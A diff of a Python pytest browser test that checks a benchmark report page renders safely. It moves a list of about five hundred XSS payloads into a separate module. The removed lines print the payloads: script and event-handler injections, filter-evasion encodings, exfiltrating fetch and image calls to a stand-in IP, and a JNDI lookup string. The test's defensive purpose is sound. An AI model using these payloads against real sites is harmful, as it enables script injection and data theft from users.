@@ -1,14 +1,12 @@
 """The report in a real browser: five hundred payloads through every text, and nothing runs and nothing leaves."""
 
-import os
-import shutil
 from collections.abc import Iterator
-from itertools import product
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from chromium import open_chromium
 from made_runs import make_run
 from medthink.cli.door import enter
 from medthink.core.jsonio import write_jsonl
@@ -18,108 +16,11 @@ from medthink.report.judged import score_judgements
 from medthink.report.page import report_page
 from medthink.report.validity import audit_group
 from medthink.report.wrong_cases import MOST_CASES
+from payloads import ACTS, LISTED, PAYLOADS, SHAPES
 from small_benchmark import make_row, picture
 
 pytestmark = pytest.mark.browser
 
-FLAGS = [
-    "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
-    "--disable-component-update", "--disable-sync",
-]  # fmt: skip
-
-ACTS = [
-    "window.__xss=1",
-    "alert(1)",
-    "top['__x'+'ss']=1",
-    "eval('__xss=1')",
-    "fetch('http://198.51.100.7/'+document.title)",
-    "new Image().src='http://198.51.100.7/'",
-    "location='http://198.51.100.7/'",
-    "document.title='run'",
-]
-SHAPES = [
-    "<script>{}</script>",
-    "<ScRiPt >{}</sCrIpT >",
-    '<script src="data:text/javascript,{}"></script>',
-    "<img src=x onerror={}>",
-    '<img src=x onerror="{}">',
-    "<img/src=x/onerror={}>",
-    "<svg onload={}>",
-    "<svg><script>{}</script></svg>",
-    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
-    '<svg><use href="data:image/svg+xml,<svg id=x onload={}>#x"/></svg>',
-    '<body onload="{}">',
-    '<details open ontoggle="{}">x</details>',
-    '<input autofocus onfocus="{}">',
-    '<video><source onerror="{}"></video>',
-    '<audio src=x onerror="{}">',
-    '<iframe src="javascript:{}"></iframe>',
-    '<iframe srcdoc="<script>{}</script>"></iframe>',
-    '<object data="javascript:{}"></object>',
-    '<embed src="javascript:{}">',
-    '<a href="javascript:{}" autofocus>x</a>',
-    '<form action="javascript:{}"><button autofocus>x</button></form>',
-    '<marquee onstart="{}">x</marquee>',
-    "<math><mtext></mtext><script>{}</script></math>",
-    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
-    "<style>@import 'javascript:{}';</style>",
-    '"><script>{}</script>',
-    "'><script>{}</script>",
-    '" onmouseover="{}" x="',
-    "' onmouseover='{}' x='",
-    '" autofocus onfocus="{}" tabindex="1',
-    "</title><script>{}</script>",
-    "</style><script>{}</script>",
-    "</textarea><script>{}</script>",
-    "</svg><script>{}</script>",
-    "</details></main><script>{}</script>",
-    "--><script>{}</script>",
-    "<!--><script>{}</script>",
-    "]]><script>{}</script>",
-    "<![CDATA[<script>{}</script>]]>",
-    "<xss id=x tabindex=1 onfocusin={}>x</xss>",
-    "<scr<script>ipt>{}</scr</script>ipt>",
-    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
-    "&lt;script&gt;{}&lt;/script&gt;",
-    "&#60;script&#62;{}&#60;/script&#62;",
-    "%3Cscript%3E{}%3C/script%3E",
-    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
-    "<\x00script>{}</script>",
-    "<script\x0c>{}</script>",
-    "\u202e<script>{}</script>",
-    "$title ${{body}} {{{{{}}}}} {{% {} %}}",
-    "{{{{constructor.constructor('{}')()}}}}",
-    "javascript:{}",
-    "jav\tascript:{}",
-    "data:text/html,<script>{}</script>",
-    "`${{{}}}`",
-    "';{}//",
-    '";{}//',
-    "<template><script>{}</script></template>",
-    "<select autofocus onfocus={}><option>x</select>",
-    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
-    "<p style='animation:x' onanimationstart=\"{}\">x</p>",
-    "<noscript><p title='</noscript><img src=x onerror={}>'>",
-]
-LISTED = [
-    "<link rel=stylesheet href=http://198.51.100.7/a.css>",
-    "<link rel=prefetch href=http://198.51.100.7/b>",
-    "<base href=http://198.51.100.7/>",
-    "<img src=http://198.51.100.7/c>",
-    "<img srcset='http://198.51.100.7/d 2x'>",
-    "<style>*{background:url(http://198.51.100.7/e)}</style>",
-    "<p style='background:url(http://198.51.100.7/f)'>x</p>",
-    "<video poster=http://198.51.100.7/g></video>",
-    "<iframe src=http://198.51.100.7/h></iframe>",
-    "<table background=http://198.51.100.7/i>",
-    "<svg><image href=http://198.51.100.7/j /></svg>",
-    "<svg><style>@import url(http://198.51.100.7/k);</style></svg>",
-    "<a ping=http://198.51.100.7/l href=#>x</a>",
-    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/m'>",
-    "<object data=http://198.51.100.7/n></object>",
-    "$" + "{jndi:ldap://198.51.100.7/o}",
-]
-PAYLOADS = [*LISTED, *dict.fromkeys(shape.replace("{}", act) for shape, act in product(SHAPES, ACTS))][:500]
 SHARE = -(-len(PAYLOADS) // MOST_CASES)
 
 
@@ -183,17 +84,8 @@ def report_file(bench: Path) -> Path:
 def browser(report_file: Path) -> Iterator[Any]:
     # The page is made first: a run is written on an event loop, and the browser's driver has one running.
     assert report_file.exists()
-    chromium = os.environ.get("MEDTHINK_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
-    if chromium is None:
-        if os.environ.get("CI"):
-            pytest.fail("no Chromium on this machine, and this test is what proves the page safe")
-        pytest.skip("no Chromium on this machine")
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as driver:
-        opened = driver.chromium.launch(executable_path=chromium, args=FLAGS)
+    with open_chromium() as opened:
         yield opened
-        opened.close()
 
 
 class Watched:
